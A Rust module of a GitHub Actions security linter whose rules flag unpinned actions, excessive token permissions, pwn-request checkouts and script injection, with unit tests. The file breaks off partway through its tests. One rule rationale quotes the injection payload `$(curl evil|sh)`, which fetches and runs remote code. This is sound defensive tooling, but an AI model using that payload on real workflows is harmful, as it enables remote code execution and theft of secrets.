//! GitHub Actions: workflows (`.github/workflows/*.yml`), actions (`action.yml`) and
//! dependabot configuration.

use std::sync::OnceLock;

use regex::Regex;

use crate::guardrails::legacy::{Rule, RuleMeta};
use crate::guardrails::{CheckCtx, Domain, Emitter, Severity};
use crate::parse::yaml::{Node, Value, YamlFile, YamlKind};

use crate::guardrails::ci_tools::{workflow_units, Category, Found};
use paved_model::workflows::{triggers, workflow_jobs};

fn has_trigger(root: &Node, names: &[&str]) -> bool {
    triggers(root)
        .iter()
        .any(|(t, _)| names.contains(&t.as_str()))
}

fn workflows<'a>(ctx: &CheckCtx<'a>) -> impl Iterator<Item = &'a YamlFile> {
    ctx.repo
        .yaml()
        .iter()
        .filter(|y| y.kind == YamlKind::Workflow)
}

fn workflows_and_actions<'a>(ctx: &CheckCtx<'a>) -> impl Iterator<Item = &'a YamlFile> {
    ctx.repo
        .yaml()
        .iter()
        .filter(|y| matches!(y.kind, YamlKind::Workflow | YamlKind::Action))
}

/// Steps of a workflow's jobs or of a composite action, with the job they belong to.
fn steps(file: &YamlFile) -> Vec<(Option<&Node>, &Node)> {
    let Some(root) = file.root() else {
        return Vec::new();
    };
    match file.kind {
        YamlKind::Action => root
            .path(&["runs", "steps"])
            .map(|s| s.items().iter().map(|st| (None, st)).collect())
            .unwrap_or_default(),
        _ => workflow_jobs(root)
            .flat_map(|(_, _, job)| {
                job.get_or_empty("steps")
                    .items()
                    .iter()
                    .map(move |st| (Some(job), st))
            })
            .collect(),
    }
}

fn action_name(uses: &str) -> String {
    uses.split('@')
        .next()
        .unwrap_or_default()
        .trim()
        .to_ascii_lowercase()
}

fn is_full_sha(r: &str) -> bool {
    r.len() == 40 && r.bytes().all(|b| b.is_ascii_hexdigit())
}

// ---------------------------------------------------------------- PVD-GHA-001

fn check_unpinned_uses(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    let allowed = ctx.params.strings("gha_unpinned_allowed", &[]);
    for file in workflows_and_actions(ctx) {
        let mut uses_nodes: Vec<(&Node, &Node)> = Vec::new();
        if let Some(root) = file.root() {
            for (_, _, job) in workflow_jobs(root) {
                uses_nodes.extend(job.get_entry("uses"));
            }
        }
        for (_, step) in steps(file) {
            uses_nodes.extend(step.get_entry("uses"));
        }
        if file.kind == YamlKind::Action {
            // A Docker action's image: `runs: {using: docker, image: docker://…}`.
            let image = file
                .root()
                .and_then(|r| r.get("runs"))
                .and_then(|r| r.get_entry("image"));
            uses_nodes.extend(
                image.filter(|(_, v)| v.as_str().is_some_and(|s| s.starts_with("docker://"))),
            );
        }
        for (key, value) in uses_nodes {
            let Some(uses) = value.as_str().map(str::trim) else {
                continue;
            };
            if uses.starts_with("./") || uses.starts_with(".\\") {
                continue;
            }
            if let Some(image) = uses.strip_prefix("docker://") {
                if !image.contains("@sha256:") {
                    out.emit(
                        &file.path,
                        Some(key.line()),
                        format!("`{uses}` is a container image not pinned by digest"),
                    );
                }
                continue;
            }
            let name = action_name(uses);
            if allowed.iter().any(|a| {
                let a = a.to_ascii_lowercase();
                name == a || name.starts_with(&format!("{}/", a.trim_end_matches('/')))
            }) {
                continue;
            }
            match uses.split_once('@') {
                Some((_, r)) if is_full_sha(r) => {}
                Some((_, r)) => out.emit(
                    &file.path,
                    Some(key.line()),
                    format!("`{uses}` is pinned to `{r}`, a movable ref, not a full commit SHA"),
                ),
                None => out.emit(
                    &file.path,
                    Some(key.line()),
                    format!("`{uses}` has no ref at all"),
                ),
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-002

fn check_default_permissions(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if root.get("permissions").is_some() {
            continue;
        }
        for (name, key, job) in workflow_jobs(root) {
            if job.get("permissions").is_none() {
                out.emit(
                    &file.path,
                    Some(key.line()),
                    format!("job `{name}` runs with the default GITHUB_TOKEN permissions: no `permissions:` at workflow or job level"),
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-018

fn check_top_level_permissions(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if root.get("permissions").is_some() {
            continue;
        }
        let jobs: Vec<_> = workflow_jobs(root).collect();
        // Jobs without their own block are PVD-GHA-002's finding.
        if jobs.is_empty()
            || jobs
                .iter()
                .any(|(_, _, job)| job.get("permissions").is_none())
        {
            continue;
        }
        let line = root
            .get_entry("on")
            .or_else(|| root.get_entry("true"))
            .map_or(root.line(), |(k, _)| k.line());
        out.emit(
            &file.path,
            Some(line),
            "no workflow-level `permissions:`: every job sets its own today, but a job added later gets the default GITHUB_TOKEN permissions",
        );
    }
}

// ---------------------------------------------------------------- PVD-GHA-003

fn check_broad_permissions(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if let Some((key, perms)) = root.get_entry("permissions") {
            if perms.as_str() == Some("write-all") {
                out.emit(
                    &file.path,
                    Some(key.line()),
                    "workflow-level `permissions: write-all` gives every job every write scope",
                );
            }
            for (scope, k, v) in perms.entries() {
                if v.as_str() == Some("write") {
                    out.emit(
                        &file.path,
                        Some(k.line()),
                        format!("workflow-level `{scope}: write` applies to every job; grant it only to the job that needs it"),
                    );
                }
            }
        }
        for (name, _, job) in workflow_jobs(root) {
            if let Some((key, perms)) = job.get_entry("permissions") {
                if perms.as_str() == Some("write-all") {
                    out.emit(
                        &file.path,
                        Some(key.line()),
                        format!("job `{name}` has `permissions: write-all`"),
                    );
                }
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-004/005

const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run"];

fn check_dangerous_triggers(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        for (t, line) in triggers(root) {
            if PRIVILEGED_TRIGGERS.contains(&t.as_str()) {
                out.emit(
                    &file.path,
                    Some(line),
                    format!("`{t}` runs with the base repository's secrets and a write token on events outsiders can cause"),
                );
            }
        }
    }
}

fn untrusted_ref(text: &str) -> bool {
    let t = text.replace(' ', "");
    [
        "github.event.pull_request.head",
        "github.head_ref",
        "github.event.workflow_run.head",
        "refs/pull/",
        "github.event.pull_request.merge_commit_sha",
    ]
    .iter()
    .any(|p| t.contains(p))
}

fn check_checkout_pr_head(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if !has_trigger(root, PRIVILEGED_TRIGGERS) {
            continue;
        }
        for (_, step) in steps(file) {
            if let Some(uses) = step.str_at("uses") {
                if action_name(uses) == "actions/checkout" {
                    if let Some((k, r)) = step.get_or_empty("with").get_entry("ref") {
                        if r.as_str().is_some_and(untrusted_ref) {
                            out.emit(
                                &file.path,
                                Some(k.line()),
                                "privileged workflow checks out the pull request's code: a fork can run anything with this workflow's secrets",
                            );
                        }
                    }
                }
            }
            if let Some((k, run)) = step.get_entry("run") {
                let text = run.as_str().unwrap_or_default();
                if text.contains("gh pr checkout") || (text.contains("git ") && untrusted_ref(text))
                {
                    out.emit(
                        &file.path,
                        Some(k.line()),
                        "privileged workflow fetches the pull request's code in a `run:` step",
                    );
                }
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-006/007

fn untrusted_context() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"github\s*\.\s*(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|head_commit\.(message|author\.(name|email))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name))",
        )
        .expect("valid regex")
    })
}

fn input_context() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"\b(inputs\.[A-Za-z0-9_-]+|github\.event\.inputs\.[A-Za-z0-9_-]+)")
            .expect("valid regex")
    })
}

/// `${{ … }}` expressions in `text`.
/// `${{ … }}` expressions in `text`, with the byte offset of each.
fn expressions(text: &str) -> Vec<(usize, &str)> {
    let mut out = Vec::new();
    let mut pos = 0;
    while let Some(start) = text[pos..].find("${{") {
        let open = pos + start + 3;
        let Some(end) = text[open..].find("}}") else {
            break;
        };
        out.push((pos + start, &text[open..open + end]));
        pos = open + end + 2;
    }
    out
}

/// Code a step runs: `run:`, or `script:` of actions/github-script.
fn step_code(step: &Node) -> Option<(&Node, &str)> {
    if let Some(v) = step.get("run") {
        return v.as_str().map(|s| (v, s));
    }
    let uses = step.str_at("uses")?;
    if action_name(uses) == "actions/github-script" {
        let v = step.get_or_empty("with").get("script")?;
        return v.as_str().map(|s| (v, s));
    }
    None
}

fn check_template_injection(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows_and_actions(ctx) {
        for (_, step) in steps(file) {
            let Some((node, code)) = step_code(step) else {
                continue;
            };
            for (offset, expr) in expressions(code) {
                let line = node.line_at(offset);
                if let Some(m) = untrusted_context().find(expr) {
                    out.emit(
                        &file.path,
                        Some(line),
                        format!(
                            "`{}` is attacker-controlled and expanded into code before it runs",
                            m.as_str()
                        ),
                    );
                }
            }
        }
    }
}

fn check_input_injection(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows_and_actions(ctx) {
        for (_, step) in steps(file) {
            let Some((node, code)) = step_code(step) else {
                continue;
            };
            for (offset, expr) in expressions(code) {
                let line = node.line_at(offset);
                if let Some(m) = input_context().find(expr) {
                    out.emit(
                        &file.path,
                        Some(line),
                        format!("`{}` is expanded into code; whoever supplies the input can inject commands", m.as_str()),
                    );
                }
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-008

fn check_persist_credentials(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows_and_actions(ctx) {
        for (_, step) in steps(file) {
            let Some((k, uses)) = step.get_entry("uses") else {
                continue;
            };
            if uses.as_str().map(action_name).as_deref() != Some("actions/checkout") {
                continue;
            }
            let persisted = step
                .get_or_empty("with")
                .bool_at("persist-credentials")
                .unwrap_or(true);
            if persisted {
                out.emit(
                    &file.path,
                    Some(k.line()),
                    "actions/checkout leaves the GITHUB_TOKEN in .git/config for every later step",
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-009

fn check_secrets_inherit(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        for (name, _, job) in workflow_jobs(root) {
            if let Some((k, v)) = job.get_entry("secrets") {
                if v.as_str() == Some("inherit") {
                    out.emit(
                        &file.path,
                        Some(k.line()),
                        format!("job `{name}` passes every secret of the repository to the called workflow"),
                    );
                }
            }
        }
        for s in root.scalars() {
            let text = s.as_str().unwrap_or_default().to_ascii_lowercase();
            if text.replace(' ', "").contains("tojson(secrets)") {
                out.emit(
                    &file.path,
                    Some(s.line()),
                    "`toJSON(secrets)` exposes every secret of the repository to this step",
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-010

/// Every `(key, key node, value)` below `node`.
fn all_entries(node: &Node) -> Vec<(&str, &Node, &Node)> {
    let mut out = Vec::new();
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        match n.value() {
            Value::Map(_) => {
                for (k, kn, v) in n.entries() {
                    out.push((k, kn, v));
                    stack.push(v);
                }
            }
            Value::Seq(items) => stack.extend(items.iter()),
            Value::Scalar { .. } => {}
        }
    }
    out
}

fn check_unsecure_commands(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows_and_actions(ctx) {
        let Some(root) = file.root() else { continue };
        let mut lines: Vec<u32> = Vec::new();
        for (k, kn, v) in all_entries(root) {
            if k == "ACTIONS_ALLOW_UNSECURE_COMMANDS" && v.as_bool() != Some(false) {
                lines.push(kn.line());
            }
            if let Some(s) = v.as_str() {
                if s.replace(' ', "")
                    .contains("ACTIONS_ALLOW_UNSECURE_COMMANDS=true")
                {
                    lines.push(kn.line());
                }
            }
        }
        lines.sort_unstable();
        lines.dedup();
        for line in lines {
            out.emit(
                &file.path,
                Some(line),
                "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env/add-path, letting any logged text change the environment",
            );
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-011

fn check_self_hosted(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if !has_trigger(
            root,
            &["pull_request", "pull_request_target", "issue_comment"],
        ) {
            continue;
        }
        for (name, _, job) in workflow_jobs(root) {
            let Some((k, v)) = job.get_entry("runs-on") else {
                continue;
            };
            let mut labels: Vec<&str> = v.items().iter().filter_map(Node::as_str).collect();
            labels.extend(v.as_str());
            labels.extend(
                v.get_or_empty("labels")
                    .items()
                    .iter()
                    .filter_map(Node::as_str),
            );
            labels.extend(v.str_at("labels"));
            if labels.iter().any(|l| l.eq_ignore_ascii_case("self-hosted")) {
                out.emit(
                    &file.path,
                    Some(k.line()),
                    format!("job `{name}` runs pull-request code on a self-hosted runner"),
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-012

fn check_silent_scanners(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    let tools: Vec<_> = Category::ALL.iter().map(|c| (c, c.tools(ctx))).collect();
    for file in workflows_and_actions(ctx) {
        // Only this file's own steps: a callee is reported in its own file.
        let single = std::slice::from_ref(file);
        let mut lines: Vec<(u32, &str)> = Vec::new();
        for unit in workflow_units(single, file) {
            for (category, t) in &tools {
                if let Some(Found::Silenced(line)) = unit.runs(**category, t) {
                    lines.push((line, category.label()));
                }
            }
        }
        lines.sort_unstable();
        lines.dedup_by_key(|(l, _)| *l);
        for (line, label) in lines {
            out.emit(
                &file.path,
                Some(line),
                format!("{label} step cannot fail the build: its failure is ignored"),
            );
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-013

fn check_github_env(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        if !has_trigger(root, PRIVILEGED_TRIGGERS) {
            continue;
        }
        for (_, step) in steps(file) {
            if let Some((k, run)) = step.get_entry("run") {
                let text = run.as_str().unwrap_or_default();
                if text.contains("GITHUB_ENV") || text.contains("GITHUB_PATH") {
                    out.emit(
                        &file.path,
                        Some(k.line()),
                        "privileged workflow writes to GITHUB_ENV/GITHUB_PATH: untrusted data there controls later steps",
                    );
                }
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-014

fn check_container_credentials(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        for (_, _, job) in workflow_jobs(root) {
            let mut containers: Vec<&Node> = job.get("container").into_iter().collect();
            containers.extend(job.get_or_empty("services").entries().map(|(_, _, v)| v));
            for c in containers {
                if let Some((k, pw)) = c.get_or_empty("credentials").get_entry("password") {
                    let literal = pw.as_str().is_some_and(|s| !s.contains("${{"));
                    if literal {
                        out.emit(
                            &file.path,
                            Some(k.line()),
                            "registry password written in the workflow instead of a secret",
                        );
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-017

/// Job containers and service containers: `(key node, image)`.
fn job_images(job: &Node) -> Vec<(&Node, &Node)> {
    let mut out = Vec::new();
    let mut containers: Vec<&Node> = job.get("container").into_iter().collect();
    containers.extend(job.get_or_empty("services").entries().map(|(_, _, v)| v));
    for c in containers {
        if c.as_str().is_some() {
            out.push((c, c));
        } else if let Some(entry) = c.get_entry("image") {
            out.push(entry);
        }
    }
    out
}

fn check_unpinned_images(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        for (_, _, job) in workflow_jobs(root) {
            for (k, image) in job_images(job) {
                let Some(name) = image.as_str().map(str::trim) else {
                    continue;
                };
                if name.is_empty() || name.contains("${{") || name.contains("@sha256:") {
                    continue;
                }
                out.emit(
                    &file.path,
                    Some(k.line()),
                    format!("job container image `{name}` is not pinned by digest"),
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-015

fn check_dependabot_cooldown(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in ctx
        .repo
        .yaml()
        .iter()
        .filter(|y| y.kind == YamlKind::Dependabot)
    {
        let Some(root) = file.root() else { continue };
        for update in root.get_or_empty("updates").items() {
            if update.get("cooldown").is_none() {
                let eco = update.str_at("package-ecosystem").unwrap_or("?");
                out.emit(
                    &file.path,
                    Some(update.key_line("package-ecosystem").unwrap_or(update.line())),
                    format!("dependabot updates for `{eco}` have no cooldown: a freshly published (possibly malicious) release is proposed at once"),
                );
            }
        }
    }
}

// ---------------------------------------------------------------- PVD-GHA-016

fn check_release_cache(ctx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
    for file in workflows(ctx) {
        let Some(root) = file.root() else { continue };
        let tags = root.path(&["on", "push", "tags"]).is_some();
        if !(has_trigger(root, &["release"]) || tags) {
            continue;
        }
        for (_, step) in steps(file) {
            let Some((k, uses)) = step.get_entry("uses") else {
                continue;
            };
            let name = uses.as_str().map(action_name).unwrap_or_default();
            let caches = name == "actions/cache"
                || name == "actions/cache/restore"
                || name == "swatinem/rust-cache"
                || step
                    .get_or_empty("with")
                    .get("cache")
                    .is_some_and(|c| c.as_bool() != Some(false) && !c.is_null());
            if caches {
                out.emit(
                    &file.path,
                    Some(k.line()),
                    "release workflow restores a cache that other (less trusted) workflows can write",
                );
            }
        }
    }
}

pub static RULES: &[Rule] = &[
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-001",
            title: "Action not pinned to a full commit SHA",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "Tags and branches are mutable: whoever controls the action's repository (or steals its maintainer's token) can change the code your workflow runs with your secrets, as happened with tj-actions/changed-files.",
            remediation: "Pin `uses:` to the 40-character commit SHA and keep the version in a comment (`uses: actions/checkout@<sha> # v4.2.2`); let dependabot update it. Param `gha_unpinned_allowed` lists owners or actions exempted.",
            references: &["zizmor:unpinned-uses", "scorecard:Pinned-Dependencies"],
        },
        check: check_unpinned_uses,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-002",
            title: "Job runs with default token permissions",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "Without `permissions:` the GITHUB_TOKEN gets the repository's default, often read-write on contents, packages and more; any compromised step can push code or publish releases.",
            remediation: "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant each job only the scopes it needs.",
            references: &["zizmor:excessive-permissions", "scorecard:Token-Permissions", "checkov:CKV2_GHA_1"],
        },
        check: check_default_permissions,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-003",
            title: "Workflow grants broad write permissions",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "Write scopes at workflow level (or `write-all` anywhere) reach every job and every third-party action in it, so the least trusted step holds the most power.",
            remediation: "Keep the workflow-level block read-only or `{}`; move each `write` scope to the one job that needs it; never use `write-all`.",
            references: &["zizmor:excessive-permissions", "scorecard:Token-Permissions", "checkov:CKV2_GHA_1"],
        },
        check: check_broad_permissions,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-004",
            title: "Workflow uses a dangerous trigger",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, on events a fork can trigger.",
            remediation: "Use `pull_request` instead. If the privileged trigger is really needed, never check out or execute the pull request's code in it, and keep its permissions minimal.",
            references: &["zizmor:dangerous-triggers", "scorecard:Dangerous-Workflow"],
        },
        check: check_dangerous_triggers,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-005",
            title: "Privileged workflow checks out pull request code",
            domain: Domain::GithubActions,
            severity: Severity::Critical,
            rationale: "Checking out the PR head in `pull_request_target`/`workflow_run` runs attacker-written code (build scripts, tests, tool configs) with the base repository's secrets: the 'pwn request'.",
            remediation: "Run untrusted code only under `pull_request`. Split the work: an unprivileged `pull_request` workflow builds and uploads an artifact, a privileged one only consumes data from it.",
            references: &["zizmor:dangerous-triggers", "scorecard:Dangerous-Workflow"],
        },
        check: check_checkout_pr_head,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-006",
            title: "Attacker-controlled context expanded in a script",
            domain: Domain::GithubActions,
            severity: Severity::Critical,
            rationale: "`${{ }}` is substituted into the script text before the shell runs it, so an issue title or branch name like `$(curl evil|sh)` becomes code running with the job's token and secrets.",
            remediation: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script.",
            references: &["zizmor:template-injection", "scorecard:Dangerous-Workflow", "checkov:CKV_GHA_2"],
        },
        check: check_template_injection,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-007",
            title: "Workflow input expanded in a script",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "Inputs of workflow_dispatch, workflow_call or a composite action are substituted into the script text; whoever can supply them can inject shell commands.",
            remediation: "Pass inputs through `env:` and quote them in the script, or validate them with a strict `type: choice`.",
            references: &["zizmor:template-injection", "checkov:CKV_GHA_2", "checkov:CKV_GHA_7"],
        },
        check: check_input_injection,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-008",
            title: "Checkout persists the token in the workspace",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "actions/checkout writes the GITHUB_TOKEN into .git/config by default; any later step, or an uploaded artifact containing .git, can take it.",
            remediation: "Set `with: persist-credentials: false` on actions/checkout, and pass a token explicitly to the one step that pushes.",
            references: &["zizmor:artipacked"],
        },
        check: check_persist_credentials,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-009",
            title: "Every secret passed to a workflow",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "`secrets: inherit` and `toJSON(secrets)` hand all repository and organisation secrets to code that needs one or two, widening what a compromise of that code reaches.",
            remediation: "Pass the secrets the called workflow or step needs by name (`secrets: { token: ${{ secrets.TOKEN }} }`).",
            references: &["zizmor:secrets-inherit", "zizmor:overprovisioned-secrets"],
        },
        check: check_secrets_inherit,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-010",
            title: "Insecure workflow commands enabled",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env/add-path commands, so anything printed to the log (e.g. a crafted issue title) can set environment variables or PATH.",
            remediation: "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH files instead.",
            references: &["zizmor:insecure-commands", "checkov:CKV_GHA_1"],
        },
        check: check_unsecure_commands,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-011",
            title: "Self-hosted runner used by pull-request workflow",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "A pull request from a fork can run arbitrary code on a self-hosted runner, which usually persists between jobs and sits inside the organisation's network.",
            remediation: "Use GitHub-hosted or ephemeral, isolated runners for pull-request workflows; restrict self-hosted runners to trusted triggers.",
            references: &["zizmor:self-hosted-runner"],
        },
        check: check_self_hosted,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-012",
            title: "Security scanner cannot fail the build",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "A scanner under `continue-on-error: true`, followed by `|| true` / `; exit 0`, or configured to exit 0 on findings (trivy without `exit-code: 1`, `--soft-fail`, grype without `--fail-on`) reports into a log nobody reads: findings never block a change.",
            remediation: "Let the scanner fail the job (`exit-code: \"1\"` for trivy, `--fail-on` for grype). Tune false positives in the tool's own configuration (allow-lists with reasons) instead of ignoring its exit code.",
            references: &[],
        },
        check: check_silent_scanners,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-013",
            title: "Privileged workflow writes to GITHUB_ENV or GITHUB_PATH",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "In pull_request_target/workflow_run workflows, data written to GITHUB_ENV/GITHUB_PATH often comes from the untrusted event or artifact and then controls the environment (LD_PRELOAD, PATH) of every later step.",
            remediation: "Do not write untrusted data to GITHUB_ENV/GITHUB_PATH; use step outputs, validated, instead.",
            references: &["zizmor:github-env", "scorecard:Dangerous-Workflow"],
        },
        check: check_github_env,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-014",
            title: "Container registry password hard-coded in workflow",
            domain: Domain::GithubActions,
            severity: Severity::High,
            rationale: "A password written in the workflow is readable by everyone with read access to the repository and stays in its history forever.",
            remediation: "Reference a secret: `password: ${{ secrets.REGISTRY_PASSWORD }}`, and rotate the exposed password.",
            references: &["zizmor:hardcoded-container-credentials"],
        },
        check: check_container_credentials,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-015",
            title: "Dependabot updates have no cooldown",
            domain: Domain::GithubActions,
            severity: Severity::Low,
            rationale: "Malicious releases are usually caught and yanked within days; proposing every release the moment it appears makes the repository an early adopter of compromised packages.",
            remediation: "Add `cooldown: { default-days: 7 }` to each entry of `updates:` in .github/dependabot.yml.",
            references: &["zizmor:dependabot-cooldown"],
        },
        check: check_dependabot_cooldown,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-016",
            title: "Release workflow restores a cache",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "Caches are shared across workflows of a repository; a poisoned cache written by a less trusted workflow ends up inside the released artifact.",
            remediation: "Build releases from a clean state: drop actions/cache and `cache:` options from workflows triggered by releases or tags.",
            references: &["zizmor:cache-poisoning"],
        },
        check: check_release_cache,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-017",
            title: "Job container image not pinned by digest",
            domain: Domain::GithubActions,
            severity: Severity::Medium,
            rationale: "A job or service container referenced by tag runs whatever its publisher pushes next, inside a job holding the workflow's token and secrets.",
            remediation: "Reference `container:` and `services:` images as `name:tag@sha256:<digest>`.",
            references: &["zizmor:unpinned-images", "scorecard:Pinned-Dependencies"],
        },
        check: check_unpinned_images,
    },
    Rule {
        meta: RuleMeta {
            id: "PVD-GHA-018",
            title: "Workflow has no top-level permissions",
            domain: Domain::GithubActions,
            severity: Severity::Low,
            rationale: "A workflow-level `permissions:` block is the default every job inherits. Without it, least privilege holds only as long as every future job remembers its own block; the first one that does not runs with the repository's default token, often read-write.",
            remediation: "Add `permissions: {}` (or `contents: read`) at the top of the workflow and keep the per-job grants.",
            references: &["scorecard:Token-Permissions", "zizmor:excessive-permissions"],
        },
        check: check_top_level_permissions,
    },
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guardrails::{check_all, Params, RepoModel};

    const PIN: &str = "0123456789abcdef0123456789abcdef01234567";

    /// A hardened workflow: every rule of this module must stay silent on it.
    fn golden() -> String {
        format!(
            r#"name: ci
on:
  pull_request:
  push:
    branches: [main]
permissions: {{}}
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@{PIN} # v4
        with:
          persist-credentials: false
      - name: title
        env:
          TITLE: ${{{{ github.event.pull_request.title }}}}
        run: echo "$TITLE"
      - run: cargo deny check
      - uses: ./.github/actions/local
      - uses: docker://alpine@sha256:{PIN}{PIN}
  call:
    permissions:
      contents: read
    uses: org/repo/.github/workflows/x.yml@{PIN}
    secrets:
      token: ${{{{ secrets.TOKEN }}}}
"#
        )
    }

    fn hits(files: &[(&str, &str)]) -> Vec<(String, Option<u32>)> {
        let model = RepoModel::from_memory(files);
        assert!(
            model.model().parse_warnings().is_empty(),
            "{:?}",
            model.model().parse_warnings()
        );
        check_all(&model, &Params::default(), RULES)
            .into_iter()
            .map(|h| (h.rule.to_owned(), h.line))
            .collect()
    }

    fn wf(text: &str) -> Vec<(String, Option<u32>)> {
        hits(&[(".github/workflows/ci.yml", text)])
    }

    fn one(id: &str, line: u32) -> Vec<(String, Option<u32>)> {
        vec![(id.to_owned(), Some(line))]
    }

    #[test]
    fn golden_workflow_is_clean() {
        assert!(wf(&golden()).is_empty(), "{:?}", wf(&golden()));
    }

    #[test]
    fn gha001_unpinned_uses() {
        let w = golden().replace(&format!("checkout@{PIN}"), "checkout@v4");
        assert_eq!(wf(&w), one("PVD-GHA-001", 13));
        let w = golden().replace(&format!("alpine@sha256:{PIN}{PIN}"), "alpine:3");
        assert_eq!(wf(&w), one("PVD-GHA-001", 22));
        let w = golden().replace(&format!("x.yml@{PIN}"), "x.yml@main");
        assert_eq!(wf(&w), one("PVD-GHA-001", 26));
        let model = RepoModel::from_memory(&[(
            ".github/workflows/ci.yml",
            &golden().replace(&format!("checkout@{PIN}"), "checkout@v4"),
        )]);
        let p = Params::new(toml::from_str("gha_unpinned_allowed = [\"actions\"]").unwrap());
        assert!(check_all(&model, &p, RULES).is_empty());
    }

    #[test]
    fn gha018_top_level_permissions() {
        // Every job keeps its own block: only the missing default is reported.
        let w = golden().replace("permissions: {}\n", "");
        assert_eq!(wf(&w), one("PVD-GHA-018", 2));
    }

    #[test]
    fn gha002_default_permissions() {
        let w = golden().replace("permissions: {}\n", "").replace(
            "    permissions:\n      contents: read\n    steps:",
            "    steps:",
        );
        assert_eq!(wf(&w), one("PVD-GHA-002", 7));
    }

    #[test]
    fn gha003_broad_permissions() {
        let w = golden().replace("permissions: {}", "permissions: write-all");
        assert_eq!(wf(&w), one("PVD-GHA-003", 6));
